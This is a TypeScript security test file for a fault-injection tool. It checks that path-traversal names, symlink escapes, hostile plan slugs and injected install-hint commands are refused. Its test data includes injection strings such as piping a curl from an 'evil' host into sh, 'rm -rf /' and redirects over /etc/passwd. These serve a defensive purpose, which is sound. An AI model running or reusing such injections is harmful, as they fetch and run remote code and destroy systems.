import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'ava';
import { execa } from 'execa';
import { nodeStateDir } from '../../nemeses/node-state.ts';
import { author } from '../../src/app/author/write.ts';
import { checkPlan } from '../../src/app/plan/check-plan.ts';
import { loadPlan } from '../../src/app/plan/load.ts';
import { createSessionDir } from '../../src/app/report/session-dir.ts';
import { parseInstallHint } from '../../src/app/run/capability-probe.ts';
import { parseInventory } from '../../src/core/control/inventory.ts';
import type { Remote } from '../../src/core/control/types.ts';
import { UserError } from '../../src/core/util/errors.ts';
import { pathName, resolveInside } from '../../src/core/util/paths.ts';
import { DaemonDatabase } from '../../src/lib/databases/daemon-db.ts';
import { EtcdDb } from '../../src/lib/databases/etcd.ts';
import { RedisDb } from '../../src/lib/databases/redis.ts';

/**
 * Confinement by construction: every name that becomes a path segment goes through one validator, every
 * input-chosen relative path through one `resolveInside`, and the install hint runs only in its one
 * allowed form. Each hole the security review found has a test here.
 */
const tmp = () => mkdtempSync(join(tmpdir(), 'fl-sec-conf-'));
const bin = new URL('../../bin/faultline.js', import.meta.url).pathname;
const planPath = new URL('../../plans/etcd-register.md', import.meta.url).pathname;
const run = (args: string[], cwd?: string) =>
  execa('node', [bin, ...args], { reject: false, env: { FAULTLINE_FROM_SOURCE: '1' }, ...(cwd && { cwd }) });

const HOSTILE_NAMES = [
  '',
  '.',
  '..',
  '../x',
  'a/b',
  '/etc',
  '.hidden',
  '-rf',
  'a..b',
  'x\0y',
  'a b',
  'a;b',
  'é',
];

test('one name validator: path-hostile names are refused, ordinary ones kept', (t) => {
  for (const n of HOSTILE_NAMES) t.throws(() => pathName('node', n), { instanceOf: UserError }, n);
  for (const n of ['n1', 'sec-a', 'S1-a', 'redis_7', '10.0.0.1', 'x'.repeat(128)])
    t.is(pathName('node', n), n);
  t.throws(() => pathName('node', 'x'.repeat(129)));
});

test('resolveInside refuses absolute paths, .. segments and symlinks leading out; keeps the rest', (t) => {
  const root = tmp();
  for (const p of ['/etc/cron.d/x', '../x', 'a/../../x', 'a/..', '..', '', '  '])
    t.throws(() => resolveInside(root, p, { local: true }), { instanceOf: UserError }, p);
  t.is(resolveInside(root, 'test/auto/x.ts', { local: true }), join(root, 'test/auto/x.ts'));
  const outside = tmp();
  symlinkSync(outside, join(root, 'link'));
  t.throws(() => resolveInside(root, 'link/x.ts', { local: true }), { message: /symlink/ });
  // Remote paths are checked lexically (no local filesystem involved).
  t.is(resolveInside('/var/lib/faultline/etcd', 'c/n1'), '/var/lib/faultline/etcd/c/n1');
});

function hostilePlan(dir: string, target: string): string {
  const text = readFileSync(planPath, 'utf8').replace(
    'test/auto/s1-linearizable-register-under-partitions-and-kills.test.ts',
    target,
  );
  const p = join(dir, 'plan.md');
  writeFileSync(p, text);
  return p;
}

for (const target of ['../escape.test.ts', '/tmp/fl-sec-escape-abs.test.ts', 'test/../../escape.test.ts']) {
  test(`author refuses Target test file ${target} and writes nothing at all`, async (t) => {
    const dir = tmp();
    const root = join(dir, 'root');
    mkdirSync(root);
    const plan = hostilePlan(dir, target);
    await t.throwsAsync(author({ plan, scenarios: [], root, mode: 'overwrite' }), {
      instanceOf: UserError,
      message: /Target test file .* refused/,
    });
    t.deepEqual(readdirSync(root), []);
    t.false(existsSync(join(dir, 'escape.test.ts')));
    t.false(existsSync('/tmp/fl-sec-escape-abs.test.ts'));
    const r = await run(['author', plan, '--root', root, '--overwrite']);
    t.is(r.exitCode, 254, r.stderr);
    t.regex(r.stderr, /S1: Target test file .* refused/);
    t.notRegex(r.stderr, /\n\s+at /);
    t.deepEqual(readdirSync(root), []);
  });
}

test('author refuses a target whose directory is a symlink out of --root', async (t) => {
  const dir = tmp();
  const root = join(dir, 'root');
  mkdirSync(root);
  const outside = join(dir, 'outside');
  mkdirSync(outside);
  symlinkSync(outside, join(root, 'test'));
  await t.throwsAsync(author({ plan: planPath, scenarios: ['S1'], root, mode: 'overwrite' }), {
    message: /symlink/,
  });
  t.deepEqual(readdirSync(outside), []);
});

const INVENTORY_ESCAPE =
  'nodes:\n  n1:\n    host: 127.0.0.1\n    labels:\n      cluster: ../../../../srv/victim\n';

test('an inventory labels.cluster that would leave the data directory is bad input naming the line', (t) => {
  const err = t.throws(() => parseInventory(INVENTORY_ESCAPE, 'inv.yaml'), { instanceOf: UserError });
  t.regex(
    err?.message ?? '',
    /^inv\.yaml:\d+: nodes\.n1\.labels\.cluster: cluster label cannot be used in a path/,
  );
  t.throws(() => parseInventory('nodes:\n  "..": 127.0.0.1\n', 'inv.yaml'), { message: /node name/ });
});

function fakeRemote(labels: Record<string, string>, node = 'n1'): Remote {
  const spec = { name: node, host: '10.0.0.1', port: 22, user: 'root', labels };
  return { nodes: [spec], node: () => spec } as unknown as Remote;
}

test('database data directories stay under the database base whatever the inventory says', (t) => {
  const dbs = [
    new EtcdDb(),
    new RedisDb(),
    new DaemonDatabase({ name: 'kv', start: ['kv-server'], packages: [] } as never),
  ];
  for (const db of dbs) {
    const ok = db.dataDir?.({ remote: fakeRemote({ cluster: 'sec-a' }), nodes: ['n1'] } as never, 'n1') ?? '';
    t.regex(ok, /^\/var\/lib\/faultline\/[a-z]+\/sec-a\/n1(\/data)?$/);
    for (const cluster of ['../../../../srv/victim', '..', 'a/b'])
      t.throws(
        () => db.dataDir?.({ remote: fakeRemote({ cluster }), nodes: ['n1'] } as never, 'n1'),
        { instanceOf: UserError },
        `${db.name} ${cluster}`,
      );
    t.throws(() => db.dataDir?.({ remote: fakeRemote({}, '..'), nodes: ['..'] } as never, '..'), {
      instanceOf: UserError,
    });
  }
  t.throws(() => nodeStateDir({ name: 'n1', labels: { cluster: '../x' } }, 'paused'), {
    instanceOf: UserError,
  });
});

test('session output stays under --out: a hostile plan slug is refused', async (t) => {
  const out = tmp();
  for (const slug of ['..', '../x', '/abs', '.'])
    await t.throwsAsync(createSessionDir(out, slug, new Date()), { instanceOf: UserError }, slug);
  const dir = await createSessionDir(out, 'ok-plan', new Date(0));
  t.true(dir.startsWith(`${out}/ok-plan/`));
});

test('a native plan whose slug or scenario id would leave the session directory is an error in plan check', async (t) => {
  const dir = tmp();
  const p = join(dir, 'evil.json');
  const md = await loadPlan(planPath);
  const raw = {
    slug: '../../evil',
    scenarios: md.scenarios.map((s, i) => (i === 0 ? { ...s, id: '../../../etc' } : s)),
    claims: md.claims,
    header: md.header,
  };
  writeFileSync(p, JSON.stringify(raw));
  const loaded = await loadPlan(p).catch((e: Error) => e);
  if (loaded instanceof Error) {
    t.true(loaded instanceof UserError, loaded.message);
    return;
  }
  const problems = checkPlan(loaded).filter((x) => x.severity === 'error');
  t.true(problems.some((x) => x.field === 'slug'));
  t.true(problems.some((x) => /scenario id .* cannot name a directory/.test(x.reason)));
});

test('install hints: only apt-get install [-y] with package names is run, rebuilt from the names', (t) => {
  t.deepEqual(parseInstallHint('apt-get install -y iptables'), {
    command: 'apt-get install -y iptables',
    packages: ['iptables'],
  });
  t.deepEqual(parseInstallHint('apt-get install libfaketime faketime'), {
    command: 'apt-get install -y libfaketime faketime',
    packages: ['libfaketime', 'faketime'],
  });
  t.is(parseInstallHint('build it from source, see the docs'), null);
  t.deepEqual(parseInstallHint('apt-get install g++-12 libstdc++6 python3.11'), {
    command: 'apt-get install -y g++-12 libstdc++6 python3.11',
    packages: ['g++-12', 'libstdc++6', 'python3.11'],
  });
  for (const hint of [
    'apt-get install -y x; curl http://evil | sh',
    'apt-get install -y x && rm -rf /',
    'apt-get install -y $(id)',
    'apt-get install -y `id`',
    'apt-get install -y x | sh',
    'apt-get install -o APT::Foo=1 x',
    'apt-get install -y ../x.deb',
    'apt install -y x',
    'yum install x',
    'sudo apt-get install -y x',
    'apt-get install -y',
    'apt-get install -y x>/etc/passwd',
    // apt's own syntax inside a word: `pkg-` removes a package, `pkg+` and `.+` patterns select others.
    'apt-get install -y iptables-',
    'apt-get install -y etcd-server+',
    'apt-get install -y lib.+',
  ]) {
    const r = parseInstallHint(hint);
    t.truthy(r && 'refused' in r, hint);
  }
});
